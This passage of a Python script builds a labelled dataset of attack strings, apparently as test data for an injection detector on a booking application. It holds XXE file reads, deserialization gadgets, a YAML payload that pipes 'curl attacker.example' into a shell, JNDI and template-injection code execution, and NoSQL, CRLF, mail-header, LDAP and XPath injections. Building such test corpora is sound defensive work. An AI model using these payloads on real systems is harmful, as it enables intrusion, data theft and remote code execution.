    ("csv-dde", "=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE b [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><booking><name>&x;</name></booking>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><schedule>&m;</schedule>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY % a SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hosts\"><!ENTITY % b \"<!ENTITY &#x25; c SYSTEM 'http://attacker.example/?%a;'>\">%b;%c;]>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>"),
    ("xxe", "<!DOCTYPE lol [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><feedback>&c;</feedback>"),
    ("deser-java", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7"),
    ("deser-java", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}"),
    ("deser-php", "O:8:\"Guest\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deser-php", "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:6:\"stream\";s:23:\"php://filter/resource=x\";}}"),
    ("deser-python", "cos\nsystem\n(S'id'\ntR."),
    ("deser-yaml", "!!python/object/apply:os.system ['curl attacker.example|sh']"),
    ("deser-yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("deser-dotnet", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}"),
]
CODE_POOL = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${jndi:ldap://attacker.example/r}", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "<%= `whoami` %>"]
CODE_PREFIX = ["Hi {{first_name}}, ", "Teacher bio: ", "Dietary: vegan. "]

NOSQLI = [
    ("operator", "{\"email\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("operator", "{\"ref\": {\"$gt\": \"\"}}"),
    ("operator", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^a\"}}"),
    ("operator", "{\"guest\": {\"$in\": [\"admin\", \"root\", \"staff\"]}, \"pin\": {\"$exists\": true}}"),
    ("operator", "{\"$or\": [{\"role\": \"admin\"}, {\"a\": {\"$ne\": 1}}]}"),
    ("operator", "{\"amount_due\": {\"$lt\": 0.01}, \"$comment\": \"x\"}"),
    ("operator", "{\"teacher\": {\"$nin\": []}}"),
    ("operator", "{\"room\": {\"$where\": \"1\"}}"),
    ("param-operator", "email[$ne]=x&password[$ne]=x"),
    ("param-operator", "username=admin&password[$regex]=^p.*"),
    ("param-operator", "ref[$gt]="),
    ("param-operator", "booking[$exists]=true&booking[$ne]=YR-0"),
    ("param-operator", "guest[$nin][]=nobody"),
    ("where-js", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-js", "{\"$where\": \"this.password.match(/^a/) != null\"}"),
    ("where-js", "'; return this.role == 'admin'; var x='"),
    ("where-js", "yin' || '1'=='1"),
    ("where-js", "0;while(true){}"),
    ("where-js", "{\"$where\": \"function(){ return obj.card_token.length > 0 }\"}"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]"),
    ("aggregation", "{\"$expr\": {\"$eq\": [{\"$substr\": [\"$password\", 0, 1]}, \"a\"]}}"),
    ("aggregation", "{\"$function\": {\"body\": \"function(){ sleep(4000); return true }\", \"args\": [], \"lang\": \"js\"}}"),
    ("regex", "{\"name\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
    ("regex", "{\"search\": {\"$regex\": \"(a+)+$\"}}"),
    ("couch-elastic", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\"]}"),
    ("couch-elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("redis", "yin\r\nFLUSHALL\r\n"),
]

CRLF = [
    ("log-forging", "vegan\n2024-06-01 12:00:01 INFO admin login succeeded user=admin ip=10.0.0.1"),
    ("log-forging", "Maya\r\n[2024-06-02T09:14:00Z] payment YR-10231 status=PAID amount=0.00"),
    ("log-forging", "room 4%0a127.0.0.1 - admin [01/Jun/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200"),
    ("log-forging", "yin retreat%0d%0aWARN audit: refund approved by manager id=1"),
    ("log-forging", "guest\u2028INFO user=root action=delete_all_bookings result=ok"),
    ("log-forging", "feedback ok\n\n=== SESSION END ===\nuser=admin role=superuser"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=fixated123; Path=/"),
    ("header-injection", "/thank-you%0d%0aLocation:%20https://attacker.example/phish"),
    ("header-injection", "yoga.pdf\r\nContent-Type: text/html\r\nX-Frame-Options: ALLOWALL"),
    ("header-injection", "utf-8%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("header-injection", "/schedule?lang=fr%0D%0ASet-Cookie:%20admin=1"),
    ("header-injection", "invoice.pdf\"\r\nContent-Disposition: attachment; filename=\"update.exe"),
    ("header-injection", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("header-injection", "fr%u000d%u000aLocation: //attacker.example"),
    ("response-splitting", "/booking/confirm%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "en\r\n\r\n<html><body>Your booking was cancelled. Log in again at https://attacker.example</body></html>"),
    ("response-splitting", "%0d%0a%0d%0a<svg onload=alert(1)>"),
    ("mail-header", "guest@yoga.example\r\nBcc: list@attacker.example"),
    ("mail-header", "Maya Smith\nCc: everyone@attacker.example\nSubject: Your refund"),
    ("mail-header", "siobhan@example.org%0ABcc:%20harvest@attacker.example"),
    ("mail-header", "Booking question\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay balance</a>"),
    ("mail-header", "ana@example.com\r\nReply-To: billing@attacker.example"),
    ("mail-header", "Retreat enquiry\nTo: staff-all@yogaretreat.example\nX-Priority: 1"),
    ("smtp-smuggling", "hello\r\n.\r\nMAIL FROM:<ceo@yogaretreat.example>\r\nRCPT TO:<guest@example.org>\r\nDATA\r\nSubject: urgent invoice\r\n"),
    ("csv-row", "Great stay\n2024-06-01,YR-99999,EUR,-5000.00,refund,paid"),
    ("csv-row", "O'Hara\",\"450\"\n\"Attacker\",\"=HYPERLINK(\"\"https://attacker.example\"\")\""),
    ("csv-row", "vegan\r\nYR-10000;Admin;0.00;EUR;card;paid"),
    ("csv-row", "note%0aYR-77777,Free Stay,0,EUR,voucher,paid"),
    ("header-injection", "room-12\r\nX-Forwarded-For: 127.0.0.1\r\nX-Original-URL: /admin"),
    ("log-forging", "Lotus\r\n127.0.0.1 - - \"POST /admin/refund?ref=YR-1&amount=900\" 200 -"),
]

LDAPX = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "maya)(|(password=*)"),
    ("ldap", "admin)(&)"),
    ("ldap", "*)(objectClass=*"),
    ("ldap", "teacher*)(|(memberOf=cn=admins,ou=groups,dc=yoga,dc=local)"),
    ("ldap", "x)(userPassword=a*"),
    ("ldap", "*))%00"),
    ("ldap", "ana\\2a)(cn=\\2a"),
    ("ldap", "staff)(!(cn=nobody)"),
    ("ldap", "*)(|(mail=*@attacker.example)(mail=*"),
    ("xpath", "' or '1'='1"),
    ("xpath", "maya' or name()='password' or 'a'='b"),
    ("xpath", "x' or count(/guests/guest)>0 or 'a'='b"),
    ("xpath", "']|//user/password|//*['"),
    ("xpath", "yin' and substring(//staff[1]/password,1,1)='s"),
    ("xpath", "1 or 1=1]/parent::*/child::node()[1"),
    ("xpath", "' or string-length(name(/*[1]))=8 or '"),
    ("xpath", "Lotus'] | //room[@secret | '"),
    ("xpath", "doc('http://attacker.example/x.xml')"),
    ("xquery", "x' or doc-available(concat('http://attacker.example/',//staff/password)) or '"),
]


def build():
    rows = []
    def add(cat, cls, v):
        rows.append((cat, cls, v))
    for c, v in SQLI:
        add("sqli", c, v)
    for c, v in SQLI_URLENC:
        add("sqli", c + "+urlencode", "".join("%%%02X" % b for b in v.encode("utf-8")))
    pairs = [(p, q) for p in SQLI_PREFIX for q in SQLI_POOL]
    for p, q in rng.sample(pairs, 5):
        add("sqli", "prefixed", p + q)
    for c, v in XSS:
        add("xss", c, v)
    pairs = [(p, q) for p in XSS_PREFIX for q in XSS_POOL]
    for p, q in rng.sample(pairs, 10):
        add("xss", "prefixed", p + q)
    for c, v in CMDI:
        add("cmdi", c, v)
    pairs = [(p, q) for p in CMDI_PREFIX for q in CMDI_POOL]
    for p, q in rng.sample(pairs, 8):
        add("cmdi", "prefixed", p + q)
    for c, v in TRAV:
        add("traversal", c, v)
    for v in TRAV_URLENC:
        add("traversal", "dotdot+urlencode", "".join("%%%02X" % b for b in v.encode("utf-8")))
    for c, v in SSRF:
        add("ssrf", c, v)
    pairs = [(p, q) for p in SSRF_PREFIX for q in SSRF_POOL]
    for p, q in rng.sample(pairs, 5):
        add("ssrf", "prefixed", p + q)
    for c, v in CODE:
        add("code", c, v)
    pairs = [(p, q) for p in CODE_PREFIX for q in CODE_POOL]
    for p, q in rng.sample(pairs, 4):
        add("code", "prefixed", p + q)
    for c, v in NOSQLI:
        add("nosqli", c, v)
    for c, v in CRLF:
        add("crlf", c, v)
    for c, v in LDAPX:
        add("ldap-xpath", c, v)
    return rows


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bp = os.path.join(here, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    rows = build()
    seen = set()
    for cat, cls, v in rows:
        if v in seen:
            raise SystemExit("duplicate attack: %r" % v)
        if v in benign:
            raise SystemExit("attack equals benign value: %r" % v)
        if not (1 <= len(v) <= 2000):
            raise SystemExit("bad length: %r" % v)
        for ch in v:
            if ord(ch) < 32 and ch not in "\n\r\t":
                raise SystemExit("control char in %r" % v)
        seen.add(v)
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "hamn-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
